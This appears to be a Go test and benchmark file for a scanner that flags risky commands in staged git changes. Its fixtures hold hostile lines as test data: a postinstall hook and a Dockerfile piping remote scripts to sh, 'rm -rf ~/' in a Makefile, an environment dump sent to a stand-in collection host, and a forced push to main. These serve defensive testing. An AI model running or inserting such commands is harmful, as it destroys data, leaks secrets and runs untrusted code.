package committedscan

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"testing"

	"github.com/swarm-guard/swarm-guard/policy"
)

// stagedRepo makes a repository whose index adds n files of the formats
// others run: workflows, Dockerfiles, Makefiles, package.json files and
// scripts, a fifth each, every one holding one finding.
func stagedRepo(t testing.TB, n int) string {
	t.Helper()
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("needs git")
	}
	dir := t.TempDir()
	git := func(args ...string) {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	git("init", "-q")
	files := map[string]string{
		".github/workflows/ci%d.yml": "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          go build ./...\n          go test ./...\n      - run: git push --force origin HEAD:main\n",
		"svc%d/Dockerfile":           "FROM debian:12\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\nWORKDIR /app\nRUN curl -fsSL https://get.example.sh | sh\n",
		"lib%d/Makefile":             "GO ?= go\n\nbuild:\n\t$(GO) build ./...\n\ntest:\n\t$(GO) test ./...\n\nclean:\n\trm -rf ~/\n",
		"pkg%d/package.json":         "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"prepare\": \"husky\",\n    \"build\": \"tsc\",\n    \"postinstall\": \"curl -s https://x.example/i.sh | sh\"\n  }\n}\n",
		"scripts/s%d.sh":             "#!/bin/sh\nset -e\ngo mod download\nenv | curl -d @- https://collect.example\n",
	}
	i := 0
	for i < n {
		for pattern, text := range files {
			if i == n {
				break
			}
			p := filepath.Join(dir, fmt.Sprintf(pattern, i))
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
				t.Fatal(err)
			}
			i++
		}
	}
	git("add", "-A")
	return dir
}

func TestChangesStaged(t *testing.T) {
	dir := stagedRepo(t, 10)
	fs, err := Changes(context.Background(), Request{Root: dir, Policy: policy.Default()})
	if err != nil {
		t.Fatal(err)
	}
	if len(fs) != 10 {
		for _, f := range fs {
			t.Log(Line(f))
		}
		t.Fatalf("got %d findings for 10 staged files with one each", len(fs))
	}
}

// BenchmarkPreCommit100Files is the pre-commit hook's share for a
// 100-file change: the staged diff, one cat-file for the files, every
// command judged. Divide by 100 for the cost per file.
func BenchmarkPreCommit100Files(b *testing.B) {
	dir := stagedRepo(b, 100)
	pol := policy.Default()
	b.ResetTimer()
	for b.Loop() {
		fs, err := Changes(context.Background(), Request{Root: dir, Policy: pol})
		if err != nil || len(fs) != 100 {
			b.Fatalf("%d findings, %v", len(fs), err)
		}
	}
}
